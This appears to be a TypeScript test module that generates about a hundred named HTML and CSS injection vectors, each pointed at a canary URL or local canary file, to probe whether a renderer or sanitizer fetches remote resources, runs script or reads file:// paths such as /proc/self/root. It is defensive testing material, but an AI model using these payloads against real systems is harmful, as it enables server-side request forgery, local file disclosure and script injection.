import type { Canary } from './canary';

/** HTML that fetches a URL or reads a file, by name. Each vector requests its own name from the canary. */
export function canaryVectors({ origins, file, folder, image }: Canary): Map<string, string> {
  let turn = 0;
  const vectors = new Map<string, string>();
  const add = (name: string, html: (url: string) => string): void => {
    const origin = origins[turn++ % origins.length] ?? '';
    vectors.set(name, html(`${origin}/${name}`));
  };

  for (const [index, origin] of origins.entries())
    vectors.set(`address-${index}`, `<img src="${origin}/address-${index}">`);

  // URL stands for the address of the vector.
  const tags: Record<string, string | ((url: string) => string)> = {
    img: '<img src="URL">',
    'img-srcset': '<img srcset="URL 1x, URL-2 2x">',
    'img-lowsrc': '<img lowsrc="URL" dynsrc="URL">',
    'img-protocol-relative': (url) => `<img src="${url.replace('http:', '')}">`,
    'img-upper-case': (url) => `<IMG SRC="${url.replace('http', 'HtTp')}">`,
    'img-tab-in-scheme': (url) => `<img src="ht\ttp&#10;:${url.slice(5)}">`,
    'img-entities': (url) => `<img src="${[...url].map((c) => `&#${c.charCodeAt(0)};`).join('')}">`,
    'img-backslashes': (url) => `<img src="${url.replace('//', '\\\\')}">`,
    'img-no-quotes': '<img/src=URL/onerror=x>',
    'image-tag': '<image src="URL">',
    picture: '<picture><source srcset="URL"><img src="x"></picture>',
    'link-in-body-of-svg':
      '<svg><link rel="stylesheet" href="URL" xmlns="http://www.w3.org/1999/xhtml"/></svg>',
    'meta-refresh': '<meta http-equiv="refresh" content="0;url=URL">',
    base: '<base href="URL/"><img src="relative">',
    iframe: '<iframe src="URL"></iframe>',
    'iframe-srcdoc': `<iframe srcdoc="<img src='URL'>"></iframe>`,
    'iframe-srcdoc-twice': `<iframe srcdoc="<iframe srcdoc=&quot;<img src='URL'>&quot;></iframe>"></iframe>`,
    'iframe-data': `<iframe src="data:text/html,<img src='URL'>"></iframe>`,
    'iframe-javascript': `<iframe src="javascript:'<img src=URL>'"></iframe>`,
    frameset: '</p><frameset><frame src="URL"></frameset>',
    object: '<object data="URL"></object>',
    'object-svg-data': `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>"></object>`,
    embed: '<embed src="URL">',
    applet: '<applet code="x" codebase="URL"></applet>',
    audio: '<audio src="URL" autoplay preload="auto"></audio>',
    video: '<video src="URL" autoplay preload="auto"></video>',
    'video-poster': '<video poster="URL"></video>',
    'video-source': '<video autoplay><source src="URL"><track default src="URL"></video>',
    track: '<video src="data:video/mp4,x"><track kind="captions" default src="URL"></video>',
    'svg-image': '<svg width="9" height="9"><image href="URL" width="9" height="9"/></svg>',
    'svg-image-xlink': '<svg><image xlink:href="URL" width="9" height="9"/></svg>',
    'svg-use': '<svg><use href="URL#a"/></svg>',
    'svg-fe-image':
      '<svg><filter id="f"><feImage href="URL"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    'svg-foreign-object':
      '<svg width="9" height="9"><foreignObject width="9" height="9"><img src="URL"></foreignObject></svg>',
    'svg-style': '<svg><style>@import "URL";</style><rect width="9" height="9" fill="url(URL#a)"/></svg>',
    'svg-animated-href':
      '<svg><image width="9" height="9"><set attributeName="href" to="URL"/></image></svg>',
    'svg-script': '<svg><script href="URL"></script></svg>',
    'svg-data-image': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>">`,
    mathml: '<math><mtext><style><img src="URL"></style></mtext><mi href="URL">x</mi></math>',
    'mathml-mglyph': '<math><mi><mglyph><style><img src=URL></style></mglyph></mi></math>',
    'style-attribute': '<p style="background:url(URL)">x</p>',
    'style-attribute-entities': '<p style="background:&#117;rl(URL)">x</p>',
    'style-in-noscript': '<noscript><style>p{background:url(URL)}</style><img src="URL"></noscript><p>x</p>',
    'link-style-sheet-data': '<link rel="stylesheet" href="data:text/css,p{background:url(URL)}"><p>x</p>',
    'input-image': '<input type="image" src="URL">',
    'body-background': '<body background="URL">x</body>',
    'table-background': '<table background="URL"><tr background="URL"><td background="URL">x</table>',
    'a-ping': '<a href="#" ping="URL" autofocus>x</a>',
    form: '<form action="URL" method="post"><button autofocus formaction="URL">x</button></form>',
    script: `<script src="URL"></script><script>fetch('URL')</script>`,
    'script-module': `<script type="module">import 'URL'</script>`,
    'script-speculation': '<script type="speculationrules">{"prefetch":[{"urls":["URL"]}]}</script>',
    'script-import-map': '<script type="importmap">{"imports":{"a":"URL"}}</script>',
    'event-error': `<img src="x" onerror="fetch('URL')">`,
    'event-load': `<body onload="new Image().src='URL'"><svg onload="fetch('URL')"></svg>`,
    'event-socket': (url) => `<img src=x onerror="new WebSocket('${url.replace('http', 'ws')}')">`,
    'event-worker': (url) =>
      `<img src=x onerror="new Worker(URL.createObjectURL(new Blob(['fetch(\\'${url}\\')'])))">`,
    'event-rtc': (url) =>
      `<img src=x onerror="var p=new RTCPeerConnection({iceServers:[{urls:'turn:${new URL(url).host}?transport=tcp',username:'a',credential:'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))">`,
    'html-import': '<link rel="import" href="URL"><?xml-stylesheet href="URL"?>',
    portal: '<portal src="URL"></portal><fencedframe src="URL"></fencedframe>',
    template: '<div><template shadowrootmode="open"><img src="URL"></template></div>',
    'template-left': '</template></div></main><img src="URL">',
    'style-left': '<style></style><img src="URL"></style>',
    'comment-left': '<!--><img src="URL">--><![CDATA[><img src="URL">]]>',
    'textarea-left': '<textarea></textarea><img src="URL"></textarea>',
    'title-left': '<title></title><img src="URL"></title><xmp><img src="URL"></xmp>',
    plaintext: '<select><img src="URL"></select><plaintext><img src="URL">',
    attribution: '<img src="data:image/png;base64,x" attributionsrc="URL">',
  };
  const styles: Record<string, string> = {
    'css-background': '.x{background:url(URL)}',
    'css-background-string': '.x{background-image:url("URL")}',
    'css-escaped': '.x{b\\61ckground:\\75 rl(URL)}',
    'css-comment': '.x{background/**/:/**/url(URL)}',
    'css-import': '@import "URL";',
    'css-import-url': '@import url(URL) screen;',
    'css-import-escaped': '@\\69mport "URL";',
    'css-font-face': '@font-face{font-family:f;src:url(URL)}.x{font-family:f}',
    'css-list-style': 'li{list-style-image:url(URL)}',
    'css-cursor': '.x{cursor:url(URL),auto}',
    'css-content': '.x::before{content:url(URL)}',
    'css-border-image': '.x{border:9px solid;border-image:url(URL) 3}',
    'css-mask': '.x{mask:url(URL);-webkit-mask-image:url(URL)}',
    'css-filter': '.x{filter:url(URL#f)}',
    'css-clip-path': '.x{clip-path:url(URL#f)}',
    'css-shape': '.x{float:left;shape-outside:url(URL)}',
    'css-image-set': '.x{background-image:image-set("URL" 1x)}',
    'css-webkit-image-set': '.x{background-image:-webkit-image-set(url(URL) 1x)}',
    'css-cross-fade': '.x{background:-webkit-cross-fade(url(URL),url(URL),50%)}',
    'css-src-function': '.x{background:src("URL")}',
    'css-variable': '.x{--a:url(URL);background:var(--a)}',
    'css-property':
      '@property --a{syntax:"<url>";inherits:true;initial-value:url(URL)}.x{background:var(--a)}',
    'css-nested': '@media all{@supports(color:red){.x{&{background:url(URL)}}}}',
    'css-page': '@page{background:url(URL);@top-left{content:url(URL)}}',
    'css-container': '@layer a{.x{background:url(URL)}}',
    'css-namespace': '@namespace url(URL);.x{background:url(URL)}',
    'css-unclosed': '.x{background:url(URL',
    'css-attribute-leak': 'input:not([value^=a]){background:url(URL)}',
  };
  for (const [name, html] of Object.entries(tags))
    add(name, typeof html === 'string' ? (url) => html.replaceAll('URL', url) : html);
  for (const [name, css] of Object.entries(styles))
    add(name, (url) => `<style>${css.replaceAll('URL', url)}</style><p class="x">x</p><ul><li>x</ul><input>`);

  for (const rel of ['stylesheet', 'preload', 'prefetch', 'modulepreload', 'icon', 'manifest', 'prerender'])
    add(`link-${rel}`, (url) => `<link rel="${rel}" as="image" href="${url}">`);
  for (const rel of ['dns-prefetch', 'preconnect'])
    add(`link-${rel}`, (url) => `<link rel="${rel}" href="${new URL(url).origin}">`);

  const slashes = file.replaceAll('/', '\\');
  const files: Readonly<Record<string, string>> = {
    plain: `file://${file}`,
    'upper-case': `FILE://${file}`,
    localhost: `file://localhost${file}`,
    'one-slash': `file:${file}`,
    backslashes: `file:\\\\${slashes}`,
    entities: `&#102;ile&colon;//${file}`,
    'tab-and-newline': `fi\tle&#10;:/&#x09;/${file}`,
    'percent-encoded': `file://${file.replace('canary', '%63anary')}`,
    'dot-dot': `file:///proc/self/../..${file}`,
    'proc-root': `file:///proc/self/root${file}`,
    folder: `file://${folder}/`,
    'view-source': `view-source:file://${file}`,
    filesystem: `filesystem:file://${file}`,
    blob: `blob:file://${file}`,
    'bare-path': file,
    chrome: `chrome://version`,
  };
  for (const [name, url] of Object.entries(files)) {
    vectors.set(`file-iframe-${name}`, `<iframe src="${url}" width="500" height="200"></iframe>`);
    const object = `<object data="${url}" type="text/plain"></object>`;
    vectors.set(`file-object-${name}`, `${object}<embed src="${url}">`);
    const image = url.replace('canary.txt', 'canary.png');
    vectors.set(`file-img-${name}`, `<img src="${image}"><p style="background:url('${image}')">x`);
  }
  const pages: Readonly<Record<string, string>> = {
    refresh: `<meta http-equiv="refresh" content="0;url=file://${file}">`,
    svg: `<svg width="99" height="99"><image href="file://${image}" width="99" height="99"/></svg>`,
    srcdoc: `<iframe srcdoc="<iframe src='file://${file}'></iframe>"></iframe>`,
    base: `<base href="file://${folder}/"><iframe src="canary.txt"></iframe><img src="canary.png">`,
    import: `<style>@import "file://${file}";.x{background:url(file://${image})}</style><p class="x">x`,
  };
  for (const [name, html] of Object.entries(pages)) vectors.set(`file-${name}`, html);
  return vectors;
}
